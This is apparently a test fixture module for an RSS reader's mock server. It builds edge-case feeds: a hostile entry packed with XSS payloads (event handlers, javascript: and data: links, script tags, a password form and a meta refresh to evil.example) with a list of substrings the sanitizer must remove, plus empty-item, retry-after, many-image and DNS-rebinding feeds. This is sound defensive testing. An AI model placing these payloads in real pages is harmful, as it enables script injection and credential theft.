"""The hard edges: a hostile feed, empty and untitled entries, servers that ask for patience.

Registered by :meth:`tests.mocksite.site.Site._add_edge_routes`. The routes that answer
differently on later requests count hits per ``?key=`` (any string a test picks), so tests
never share a count and need no ``/__reset__``.
"""

from __future__ import annotations

from collections.abc import Callable
from html import escape
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from tests.mocksite.site import Request, Response

HOSTILE_BODY = (
    '<p onclick="steal()">Hostile <b>bold</b> text with a '
    '<a href="javascript:alert(1)">javascript link</a>, a '
    '<a href=" JaVaScRiPt:alert(2)">mixed-case one</a>, a '
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgzKTwvc2NyaXB0Pg==">data link</a> and a '
    '<a href="https://example.org/ok" onmouseover="alert(4)">good link</a>.</p>'
    '<img src="https://example.org/pic.png" onerror="alert(5)" alt="pic">'
    '<img src="data:text/html;base64,AAAA"><img src="data:image/png;base64,iVBORw0KGgo=">'
    "<script>alert(6)</script><style>body{display:none}</style>"
    '<form action="https://evil.example/"><input name="password"><button>Go</button></form>'
    '<iframe src="https://evil.example/frame"></iframe>'
    '<iframe src="https://www.youtube.com/embed/xyz" onload="alert(7)"></iframe>'
    '<svg onload="alert(8)"><circle r="1"/></svg><object data="x.swf"></object>'
    '<embed src="x.swf"><meta http-equiv="refresh" content="0;url=https://evil.example/">'
    '<p style="position:fixed">styled</p><math><mi>x</mi></math>'
    '<table><tr><td colspan="2">cell</td></tr></table>'
)
"""What the hostile feed's entry carries; every output must show none of :data:`HOSTILE_MARKS`."""

HOSTILE_MARKS = (
    "onclick", "onerror", "onmouseover", "onload", "javascript:", "alert(", "steal(",
    "data:text/html", "<script", "<style", "<form", "<input", "<button", "<iframe",
    "<svg", "<object", "<embed", "http-equiv", "style=", "<math", "evil.example",
)  # fmt: skip
"""Substrings (lower-case) that no sanitized output of :data:`HOSTILE_BODY` may contain."""

HOSTILE_KEPT = (
    "<b>bold</b>", 'href="https://example.org/ok"', 'src="https://example.org/pic.png"',
    'alt="pic"', 'src="data:image/png;base64,iVBORw0KGgo="', 'colspan="2"',
)  # fmt: skip
"""What a sanitized output keeps of it."""


def _rss(base: str, path: str, items: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n'
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">'
        f"<channel><title>Edges</title><link>{base}/</link>"
        f"<description>Edge cases</description>{items}</channel></rss>\n"
    ).encode()


def hostile_feed(base: str) -> bytes:
    """One entry whose title and body carry every kind of script and trap."""
    item = (
        "<item><title>Hostile entry</title>"
        f"<link>{base}/edges/hostile-article</link><guid>{base}/edges/hostile-article</guid>"
        "<pubDate>Tue, 04 May 2021 08:00:00 GMT</pubDate>"
        f"<description>{escape(HOSTILE_BODY)}</description>"
        f"<content:encoded><![CDATA[{HOSTILE_BODY}]]></content:encoded></item>"
    )
    return _rss(base, "/edges/hostile.xml", item)


UNTITLED_TEXT = "An entry with no title at all but a body that says something worth keeping."


def empty_items_feed(base: str) -> bytes:
    """Two empty ``<item>``s (one bare, one of whitespace), an untitled one with content, and
    a normal one."""
    items = (
        "<item></item>"
        "<item>\n  <title> </title><description>  </description>\n</item>"
        f'<item><guid isPermaLink="false">untitled-1</guid>'
        f"<description>&lt;p&gt;{UNTITLED_TEXT}&lt;/p&gt;</description></item>"
        f"<item><title>A normal entry</title><link>{base}/edges/normal</link>"
        "<description>Normal.</description></item>"
    )
    return _rss(base, "/edges/empty-items.xml", items)


def ok_feed(base: str, name: str) -> bytes:
    item = (
        f"<item><title>After patience: {name}</title><link>{base}/edges/{name}-article</link>"
        f"<guid>{base}/edges/{name}-article</guid><description>Waited.</description></item>"
    )
    return _rss(base, f"/edges/{name}.xml", item)


def answering_after(
    failures: int, status: int, retry_after: str | None, name: str
) -> Callable[[Request], Response]:
    """A handler that answers *status* (with ``Retry-After``) to the first *failures*
    requests of each ``?key=``, then a feed."""
    from tests.mocksite.site import HTML, RSS, Response, _page

    def handler(request: Request) -> Response:
        key = request.path + "?" + request.query.get("key", "")
        if request.site.state.count_hit(key) <= failures:
            headers = [("Retry-After", retry_after)] if retry_after is not None else []
            page = _page(str(status), f"<h1>{status}</h1>")
            return Response(status, page, HTML, headers, send_etag=False)
        return Response(body=ok_feed(request.site.base, name), content_type=RSS, send_etag=False)

    return handler


def many_images_feed(base: str, count: int) -> bytes:
    """*count* entries of six distinct generated images each (seeds from 10,000): many small
    files to write, so a killed crawl is often killed mid-write."""
    items = []
    for index in range(count):
        seeds = [(10_000 + index * 6 + n, ("png", "jpg", "webp")[n % 3]) for n in range(6)]
        images = "".join(
            f'<p><img src="{base}/images/gen/{seed}.{extension}"></p>' for seed, extension in seeds
        )
        items.append(
            f"<item><title>Pictures {index}</title><link>{base}/edges/pictures/{index}</link>"
            f"<guid>{base}/edges/pictures/{index}</guid>"
            f"<description>{escape('<p>Pictures.</p>' + images)}</description></item>"
        )
    return _rss(base, "/edges/many-images.xml", "".join(items))


def rebinding_feed(base: str) -> bytes:
    """An entry whose images are on a name that re-binds to 127.0.0.1 (``tests.rebinding``):
    one named directly, one reached through a redirect from the feed's own host."""
    port = base.rsplit(":", 1)[1]
    rebound = f"http://evil.rebind.test:{port}"
    body = (
        f'<p>Rebinding.</p><img src="{rebound}/images/photo.png">'
        f'<img src="{base}/edges/redirect?to={rebound}/images/alpha.png">'
        f'<img src="{base}/images/gen/41.png">'
    )
    item = (
        f"<item><title>Rebinding</title><link>{base}/edges/rebinding-article</link>"
        f"<guid>{base}/edges/rebinding-article</guid>"
        f"<description>{escape(body)}</description></item>"
    )
    return _rss(base, "/edges/rebinding.xml", item)
